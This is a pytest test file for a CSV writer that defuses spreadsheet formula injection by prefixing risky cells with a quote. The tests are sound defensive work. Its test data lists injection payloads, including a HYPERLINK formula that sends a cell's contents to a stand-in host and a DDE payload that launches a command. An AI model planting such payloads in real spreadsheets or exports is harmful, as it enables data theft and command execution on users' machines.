"""The one CSV writer: a cell a spreadsheet would run as a formula comes out as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from trainer.csv_out import iter_csv, neutralise, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)", "@SUM(1)", "-2+3",
           "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\0=1+1", "-", "+", "=", "@", "-1e3"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_prefixed_with_a_quote_so_it_reads_as_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell, expected", [
    ("Ann Lee", "Ann Lee"), ("", ""), (None, ""), ("a=b", "a=b"), ("'=1", "'=1"),
    ("-12", "-12"), ("-0.5", "-0.5"), (-3, "-3"), (2.5, "2.5"), ("2026-03-01", "2026-03-01"),
    (" =1+1", " =1+1"),
])
def test_text_and_plain_numbers_are_left_alone(cell, expected):
    assert neutralise(cell) == expected


def test_write_csv_neutralises_every_cell_and_quotes_as_rfc_4180_says():
    text = write_csv([{"name": "=1+1", "department": 'Sales, "North"'},
                      {"name": "Ann", "department": "-2+3", "ignored": "x"}],
                     ["name", "department"])
    assert text == ("name,department\r\n'=1+1,\"Sales, \"\"North\"\"\"\r\nAnn,'-2+3\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [{"name": "'=1+1", "department": 'Sales, "North"'},
                    {"name": "Ann", "department": "'-2+3"}]


def test_iter_csv_streams_the_header_then_one_line_per_row_and_takes_sequences():
    lines = iter_csv(iter([["@SUM(1)", 4], ("Bo", None)]), ["name", "count"])
    assert next(lines) == "name,count\r\n"
    assert list(lines) == ["'@SUM(1),4\r\n", "Bo,\r\n"]


@pytest.mark.parametrize("cell", ["Ann\n=1+1", "Ann\r=1+1", "Ann\r\n=1+1"])
def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own(cell):
    text = write_csv([{"name": cell, "n": 1}], ["name", "n"])
    assert text == f'name,n\r\n"{cell}",1\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "n"], [cell, "1"]]
